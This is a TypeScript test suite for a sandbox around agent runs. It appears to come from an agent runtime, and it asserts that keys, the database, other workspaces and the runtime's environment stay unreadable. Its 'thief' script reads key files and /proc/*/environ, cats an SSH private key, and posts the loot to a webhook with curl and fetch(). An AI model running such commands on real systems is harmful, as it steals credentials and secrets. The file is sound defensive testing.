/**
 * The attack this sandbox answers (docs/security.md#sandbox): an environment whose setup and agent
 * try to read the admin key, the master key and the database by absolute and relative path, the
 * runtime's environment through /proc, another run's workspace, and post what they found to a
 * webhook of the runtime itself. Run against a real `factory serve` child process, whose own
 * environment holds the master key and a provider key, as a deployment's would.
 */

import { test } from 'node:test';
import assert from 'node:assert/strict';
import { randomBytes, randomInt } from 'node:crypto';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { compile } from '../../../cli/compiler/compile.ts';
import { startChildRuntime, type ChildRuntime } from '../ingress/helpers.ts';
import { removeWorkspace } from '../../../runtime/executor/workspace.ts';
import { isolationOf } from '../../../runtime/executor/sandbox.ts';
import { seccompAbis } from '../../../runtime/executor/seccomp.ts';
import { parseConfig } from '../../../runtime/config.ts';
import { AGENTS, makeRepo, processesOfRun, processesWith, run, sandboxSkip, scratch, spec } from './helpers.ts';
import { eventually } from '../../helpers/eventually.ts';

const SKIP = sandboxSkip();
const LOOT_UID = 'wh_lootlootlootlootlootlootlo';
const LOOT_SECRET = 'loot-token';
const LOOT_TOKEN = randomBytes(32).toString('base64url');

/** Every file below `dir` (the runtime reads them all: it is root, or their owner). */
function filesBelow(dir: string): string[] {
  const out: string[] = [];
  for (const name of readdirSync(dir)) {
    const p = path.join(dir, name);
    const st = statSync(p, { throwIfNoEntry: false });
    if (st?.isDirectory()) out.push(...filesBelow(p));
    else if (st?.isFile()) out.push(p);
  }
  return out;
}

/**
 * The thief's shell script: everything it can read of the runtime's secrets into `out` in its
 * workspace, then a JSON copy for posting.
 */
function gather(rt: ChildRuntime, otherRun: string, out: string): string {
  const data = rt.dataDir;
  const work = `${data}-workspaces`;
  const base = path.basename(data);
  const targets = [
    `${data}/admin.key`, `${data}/master.key`, `${data}/factory.db`,
    // Relative to a workspace at <work>/<run_id>, and to the layout that kept workspaces in the data dir.
    `../../${base}/admin.key`, `../../${base}/master.key`, `../../${base}/factory.db`, '../../admin.key', '../../master.key', '../../factory.db',
    `${work}/${otherRun}/private.txt`, `../${otherRun}/private.txt`,
  ];
  return [
    `{ for f in ${targets.map((t) => `'${t}'`).join(' ')}; do echo "== $f"; head -c 4096 "$f"; echo; done`,
    // The environment of every process this command can see: the runtime's, if it is visible.
    'echo "== environ"; for e in /proc/[0-9]*/environ; do tr "\\000" "\\n" < "$e"; done',
    `echo "== ls"; ls -la / '${data}' '${work}'; } > "$FACTORY_WORKSPACE/${out}" 2>&1`,
    `node -e 'require("fs").writeFileSync(process.argv[1] + ".json", JSON.stringify({ loot: require("fs").readFileSync(process.argv[1], "utf8") }))' "$FACTORY_WORKSPACE/${out}"`,
  ].join('\n');
}

/**
 * A factory: the webhook the thief posts to, a benign environment that keeps `privateValue` in its
 * workspace, and the thief's environments, which look for the workspace of run `otherRun`.
 */
async function applyFactory(rt: ChildRuntime, repo: string, privateValue: string, otherRun: string): Promise<void> {
  const url = `${rt.url}/webhooks/w/${LOOT_UID}/${LOOT_TOKEN}`;
  const curl = `curl -sS -m 5 -H 'Content-Type: application/json' --data-binary @"$FACTORY_WORKSPACE/setup-loot.txt.json" '${url}'; echo "curl exit $?"`;
  const fetchJs = `fetch(${JSON.stringify(url)}, { method: "POST", headers: { "Content-Type": "application/json" }, body: require("fs").readFileSync(process.env.FACTORY_WORKSPACE + "/agent-loot.txt.json") }).then((r) => console.log("posted", r.status), (e) => console.log("post failed:", e.cause?.code ?? e.message))`;
  const thief = (network?: 'open') => ({
    ...(network ? { network } : {}),
    setup: [`${gather(rt, otherRun, 'setup-loot.txt')}\n${curl}`],
    agent: { command: ['/bin/sh', '-c', `${gather(rt, otherRun, 'agent-loot.txt')}\nnode -e '${fetchJs}'`], timeout: '1m' },
  });
  const files = [
    { path: 'factory.yaml', text: 'name: heist\n' },
    { path: 'webhooks/loot.yaml', text: `authMode: url_token\nsecretName: ${LOOT_SECRET}\nuid: ${LOOT_UID}\n` },
    {
      path: 'environments/benign.yaml',
      text: JSON.stringify({
        repos: [{ url: repo, path: 'app' }],
        setup: ['echo "other run private data: $OTHER_PRIVATE" > private.txt', 'echo built > app/BUILD.txt'],
        agent: { command: ['node', path.join(AGENTS, 'scripted-agent.mjs')] },
        env: { OTHER_PRIVATE: privateValue },
      }),
    },
    { path: 'environments/thief.yaml', text: JSON.stringify(thief()) },
    { path: 'environments/thief-online.yaml', text: JSON.stringify(thief('open')) },
  ];
  const { snapshot, diagnostics } = compile(files);
  assert.ok(snapshot, JSON.stringify(diagnostics));
  if ((await rt.fetch(`/api/v1/secrets/${LOOT_SECRET}`)).status === 404) {
    const secret = await rt.fetch('/api/v1/secrets', { method: 'POST', json: { name: LOOT_SECRET, value: LOOT_TOKEN } });
    assert.equal(secret.status, 201, await secret.text());
  }
  const res = await rt.fetch('/api/v1/factories/heist/apply', { method: 'POST', json: { snapshot } });
  assert.equal(res.status, 200, await res.text());
}

async function runToEnd(rt: ChildRuntime, environment: string): Promise<Record<string, any>> {
  const created = (await (await rt.fetch('/api/v1/agent/runs', { method: 'POST', json: { prompt: 'go', config: { environment_id: environment } } })).json()) as { run_id: string };
  return eventually(async () => (await (await rt.fetch(`/api/v1/agent/runs/${created.run_id}`)).json()) as Record<string, any>, `run ${created.run_id} to end`, {
    until: (run) => !['QUEUED', 'INPROGRESS'].includes(run.state),
    tries: 1200,
  });
}

/** The whole transcript, every page of it, as one text. */
async function transcriptOf(rt: ChildRuntime, runId: string): Promise<string> {
  const pages: unknown[] = [];
  for (let after = 0; ; ) {
    const res = await rt.fetch(`/api/v1/agent/runs/${runId}/transcript?after=${after}`);
    assert.equal(res.status, 200, `transcript of ${runId}`);
    const page = (await res.json()) as { has_more: boolean; next_after: number };
    pages.push(page);
    if (!page.has_more) break;
    after = page.next_after;
  }
  return JSON.stringify(pages);
}

/** The loot webhook's delivery log, every entry with its payload, as one text. */
async function deliveriesText(rt: ChildRuntime): Promise<{ count: number; text: string }> {
  const list = (await (await rt.fetch(`/api/v1/webhooks/${LOOT_UID}/deliveries?limit=100`)).json()) as { deliveries: { delivery_id: string }[] };
  let text = JSON.stringify(list);
  for (const d of list.deliveries) text += await (await rt.fetch(`/api/v1/webhooks/${LOOT_UID}/deliveries/${encodeURIComponent(d.delivery_id)}`)).text();
  return { count: list.deliveries.length, text };
}

interface Secrets {
  [what: string]: string;
}

function assertNoSecret(where: string, text: string, secrets: Secrets): void {
  for (const [what, value] of Object.entries(secrets)) assert.ok(!text.includes(value), `${what} appears in ${where}`);
}

async function startRuntime(t: { after: (fn: () => Promise<void>) => void }, args: string[] = []) {
  const masterKey = randomBytes(32).toString('base64');
  const providerKey = `sk-ant-${randomBytes(16).toString('hex')}`;
  const rt = await startChildRuntime({ FACTORY_MASTER_KEY: masterKey, ANTHROPIC_API_KEY: providerKey }, { args: ['--max-concurrent-runs', '1', ...args] });
  t.after(() => rt.stop());
  const secrets: Secrets = {
    'the admin key': readFileSync(path.join(rt.dataDir, 'admin.key'), 'utf8').trim(),
    'the master key': masterKey,
    "the runtime's provider key": providerKey,
    'the database': 'SQLite format 3',
  };
  return { rt, secrets };
}

test('sandbox: a run cannot read the keys, the database, the runtime\'s environment or another run\'s workspace, and with network none cannot post at all; a benign run still SUCCEEDS', { skip: SKIP, timeout: 180_000 }, async (t) => {
  const dir = scratch(t);
  const repo = makeRepo(dir);
  const { rt, secrets } = await startRuntime(t);
  const otherPrivate = `other-run-private-${randomBytes(8).toString('hex')}`;
  await applyFactory(rt, repo, otherPrivate, 'run_not_yet');

  // A benign run: clones its repo, runs setup, writes files; its workspace holds a private value.
  const benign = await runToEnd(rt, 'benign');
  assert.equal(benign.state, 'SUCCEEDED', JSON.stringify(benign));
  const benignWs = path.join(`${rt.dataDir}-workspaces`, benign.run_id);
  assert.match(readFileSync(path.join(benignWs, 'private.txt'), 'utf8'), new RegExp(otherPrivate));
  assert.equal(readFileSync(path.join(benignWs, 'app/BUILD.txt'), 'utf8'), 'built\n');
  const benignTranscript = await transcriptOf(rt, benign.run_id);
  assert.match(benignTranscript, /"type":"file_change".*"path":"AGENT_NOTES.md"/);
  secrets["another run's workspace"] = otherPrivate;

  // The thief now knows the benign run's id, hence where its workspace is.
  await applyFactory(rt, repo, otherPrivate, benign.run_id);

  // network: none (the default): the thief's run ends as its commands make it (they swallow
  // every error), finds nothing, and cannot post: no delivery reaches the runtime.
  const offline = await runToEnd(rt, 'thief');
  assert.equal(offline.state, 'SUCCEEDED', JSON.stringify(offline));
  const offlineTranscript = await transcriptOf(rt, offline.run_id);
  assert.match(offlineTranscript, /curl: \(7\)[^"]*|Could not resolve|Failed to connect/);
  assert.match(offlineTranscript, /post failed: (ECONNREFUSED|ENETUNREACH|EAI_AGAIN)/);
  assert.equal((await deliveriesText(rt)).count, 0, 'a run without network posted to the runtime');

  // network: open: the post arrives (the channel works, so what it carries is what was found).
  const online = await runToEnd(rt, 'thief-online');
  assert.equal(online.state, 'SUCCEEDED', JSON.stringify(online));
  const onlineTranscript = await transcriptOf(rt, online.run_id);
  assert.match(onlineTranscript, /posted 202/);
  const deliveries = await deliveriesText(rt);
  assert.equal(deliveries.count, 2, deliveries.text.slice(0, 2000));
  assert.match(deliveries.text, /== environ/);

  for (const run of [offline, online]) {
    const ws = path.join(`${rt.dataDir}-workspaces`, run.run_id);
    const files = filesBelow(ws);
    // The thief did write its loot files: they exist, and hold what it tried.
    const loot = readFileSync(path.join(ws, 'agent-loot.txt'), 'utf8');
    assert.match(loot, /== \/proc|== environ/);
    assert.match(loot, new RegExp(`== ${rt.dataDir}/admin.key\\n(head: cannot open|.*No such file)`));
    for (const f of files) assertNoSecret(`workspace file ${path.relative(ws, f)}`, readFileSync(f, 'latin1'), secrets);
    assertNoSecret(`the transcript of ${run.run_id}`, await transcriptOf(rt, run.run_id), secrets);
  }
  assertNoSecret('the delivery log', deliveries.text, secrets);
});

test('direct as root: a run as another user cannot read the keys, the database or the runtime\'s environment', { skip: process.getuid?.() !== 0 ? 'the direct executor isolates nothing from a runtime that is not root (docs/security.md#executors)' : false, timeout: 180_000 }, async (t) => {
  const dir = scratch(t);
  const repo = makeRepo(dir);
  const { rt, secrets } = await startRuntime(t, ['--executor', 'direct']);
  await applyFactory(rt, repo, 'unused', 'run_none');
  const run = await runToEnd(rt, 'thief');
  assert.equal(run.state, 'SUCCEEDED', JSON.stringify(run));
  // Direct runs have the host's network: the post arrives, without anything secret in it.
  const transcript = await transcriptOf(rt, run.run_id);
  assert.match(transcript, /posted 202/);
  const ws = path.join(`${rt.dataDir}-workspaces`, run.run_id);
  assert.match(readFileSync(path.join(ws, 'agent-loot.txt'), 'utf8'), new RegExp(`== ${rt.dataDir}/admin.key\\nhead: cannot open '[^']+' for reading: Permission denied`));
  for (const f of filesBelow(ws)) assertNoSecret(`workspace file ${path.relative(ws, f)}`, readFileSync(f, 'latin1'), secrets);
  assertNoSecret('the transcript', transcript, secrets);
  assertNoSecret('the delivery log', (await deliveriesText(rt)).text, secrets);
});

/**
 * Commands that leave their process group (setsid, a double fork) are out of reach of the group
 * kill of the direct executor; in the sandbox, the end of bubblewrap ends its PID namespace, and
 * every process in it.
 */
for (const how of ['cancel', 'timeout'] as const) {
  test(`sandbox: ${how} ends every process the run started, daemons that left its process group included`, { skip: SKIP }, async (t) => {
    const dir = scratch(t);
    const n = randomInt(3000, 9000);
    const sleeps = [`sleep ${n}`, `sleep ${n + 1}`, `sleep ${n + 2}`];
    const script = `setsid sleep ${n} & (sleep ${n + 1} &) ; nohup sleep ${n + 2} >/dev/null 2>&1 & touch "$FACTORY_WORKSPACE/started"; wait`;
    const s = spec(dir, { runId: `run_${how}_daemons`, agent: { command: ['/bin/sh', '-c', script], timeoutMs: how === 'timeout' ? 1_500 : 60_000 } });
    const ac = new AbortController();
    const job = run(s, { signal: ac.signal });
    await eventually(() => existsSync(path.join(s.workspaceDir, 'started')) && sleeps.every((c) => processesWith(c).length === 1), 'the daemons to start');
    assert.ok(processesOfRun(s.runId).length >= 4, 'every process of the run carries its marker');
    if (how === 'cancel') ac.abort();
    const { result } = await job;
    assert.equal(result.state, how === 'cancel' ? 'CANCELLED' : 'FAILED');
    if (how === 'timeout') assert.equal(result.errorCode, 'agent_timeout');
    await eventually(() => sleeps.every((c) => processesWith(c).length === 0) && processesOfRun(s.runId).length === 0, 'no process of the run to be left');
  });
}

test('sandbox: the runtime reads what a run left in its workspace and removes it, read-only directories included', { skip: SKIP }, async (t) => {
  const dir = scratch(t);
  const s = spec(dir, { agent: { command: ['/bin/sh', '-c', 'mkdir -p cache/mod/v1 && echo kept > cache/mod/v1/file && chmod 0444 cache/mod/v1/file && chmod -R a-w cache && echo done'] } });
  const { result, output } = await run(s);
  assert.equal(result.state, 'SUCCEEDED');
  assert.equal(output, 'done\n');
  assert.equal(readFileSync(path.join(s.workspaceDir, 'cache/mod/v1/file'), 'utf8'), 'kept\n');
  await removeWorkspace(s.workspaceDir);
  assert.equal(existsSync(s.workspaceDir), false);
});

// Writing under /opt needs root, as a service installed there would have been installed.
const OPT_SKIP = SKIP || (process.getuid?.() !== 0 ? 'needs root to make an install directory under /opt' : false);

test('sandbox: an install directory under /opt (its env file beside the data dir) and the runtime\'s home there are covered; a local repo inside is still cloned', { skip: OPT_SKIP }, async (t) => {
  const dir = scratch(t);
  const base = mkdtempSync('/opt/factory-test-');
  t.after(() => rmSync(base, { recursive: true, force: true }));
  writeFileSync(path.join(base, 'factory.env'), 'FACTORY_MASTER_KEY=do-not-show\n');
  const dataDir = path.join(base, 'data');
  const home = path.join(base, 'home');
  mkdirSync(path.join(home, '.ssh'), { recursive: true });
  writeFileSync(path.join(home, '.ssh', 'id_ed25519'), 'PRIVATE KEY\n');
  mkdirSync(dataDir);
  const repo = makeRepo(base);
  const iso = isolationOf(parseConfig({ dataDir, executor: 'sandbox', sandboxRoBind: [AGENTS], localRepos: [base] }, {}), home);
  assert.deepEqual(iso.covered, [home, base]);
  // A data dir right inside a shared directory never covers that directory (every tool is there).
  const shared = isolationOf(parseConfig({ dataDir: '/usr/local/factory', executor: 'sandbox', sandboxRoBind: [AGENTS], localRepos: [] }, {}), '/usr/local');
  assert.deepEqual(shared.covered, []);
  const look = `cat ${base}/factory.env ${home}/.ssh/id_ed25519 2>&1; ls -A ${base}; cat app/README.md`;
  const { result, output } = await run(spec(dir, { repos: [{ url: repo, path: 'app' }], agent: { command: ['/bin/sh', '-c', look] } }), { isolation: iso });
  assert.equal(result.state, 'SUCCEEDED', JSON.stringify(result));
  assert.ok(!output.includes('do-not-show') && !output.includes('PRIVATE KEY'), output);
  assert.match(output, /# app\n$/, 'the local repo inside the covered directory was cloned');
  // The home and the data dir's directory are real directories of the host, untouched.
  assert.equal(readFileSync(path.join(base, 'factory.env'), 'utf8'), 'FACTORY_MASTER_KEY=do-not-show\n');
});

test('sandbox: certificates are shown, the TLS private keys beside them are not', { skip: SKIP || (existsSync('/etc/ssl/private') ? false : 'this host has no /etc/ssl/private') }, async (t) => {
  const dir = scratch(t);
  const { result, output } = await run(spec(dir, { agent: { command: ['/bin/sh', '-c', 'ls -A /etc/ssl/private 2>&1 | wc -l; ls /etc/ssl/certs | grep -c .'] } }));
  assert.equal(result.state, 'SUCCEEDED', JSON.stringify(result));
  const [privateEntries, certs] = output.trim().split('\n').map(Number);
  assert.equal(privateEntries, 0, 'an empty directory covers the private keys (listing it prints nothing, not even a refusal)');
  assert.ok(certs > 0, 'the certificates are there');
});

test('sandbox: a --sandbox-ro-bind that is a link into the data dir shows nothing of it', { skip: SKIP }, async (t) => {
  const dir = scratch(t);
  const dataDir = path.join(dir, 'data');
  mkdirSync(path.join(dataDir, 'dev-secrets'), { recursive: true });
  writeFileSync(path.join(dataDir, 'dev-secrets', 'github-secret'), 'dev secret value\n');
  const link = path.join(dir, 'tools-link');
  symlinkSync(path.join(dataDir, 'dev-secrets'), link);
  const iso = isolationOf(parseConfig({ dataDir, executor: 'sandbox', sandboxRoBind: [AGENTS, link], localRepos: [] }, {}), '/nonexistent');
  const { result, output } = await run(spec(dir, { agent: { command: ['/bin/sh', '-c', `ls -A ${link}; cat ${link}/github-secret 2>/dev/null; echo end`] } }), { isolation: iso });
  assert.equal(result.state, 'SUCCEEDED', JSON.stringify(result));
  assert.equal(output, 'end\n');
});

test('sandbox: a command cannot make a user namespace of its own, nor reach the calls the filter refuses (docs/security.md#system-calls)', { skip: SKIP }, async (t) => {
  const dir = scratch(t);
  // perl's syscall() makes the calls by number, this machine's own (the filter's table, which
  // seccomp.test.ts checks against the kernel headers): clone3 with no arguments fails with EINVAL
  // when it reaches the kernel, keyctl(KEYCTL_GET_KEYRING_ID) with ENOKEY or EINVAL.
  const [native] = seccompAbis(process.arch)!;
  const calls = `perl -e 'syscall(${native.clone3}, 0, 0); print "clone3 ", $!+0, "\\n"; syscall(${native.refused.keyctl}, 0, 0, 0); print "keyctl ", $!+0, "\\n"'`;
  const script = [
    'unshare --user true 2>&1; echo "unshare $?"',
    'unshare --user --map-root-user id 2>&1; echo "unshare root $?"',
    calls,
    // What a build does still works: a pipeline, a background job, a program with threads.
    '(echo forked) & wait',
    `node -e 'new (require("worker_threads").Worker)("", { eval: true }).on("exit", () => console.log("threads ok"))' 2>&1`,
  ].join('\n');
  const { result, output } = await run(spec(dir, { agent: { command: ['/bin/sh', '-c', script] } }));
  assert.equal(result.state, 'SUCCEEDED', JSON.stringify(result));
  assert.match(output, /unshare: unshare failed: (Operation not permitted|No space left on device)\nunshare 1\n/, output);
  assert.match(output, /unshare root 1\n/, output);
  assert.match(output, /clone3 38\n/, 'clone3 gets ENOSYS, so callers fall back to clone');
  assert.match(output, /keyctl 1\n/, 'keyctl gets EPERM');
  assert.match(output, /forked\n/);
  assert.match(output, /threads ok\n/, output);
});
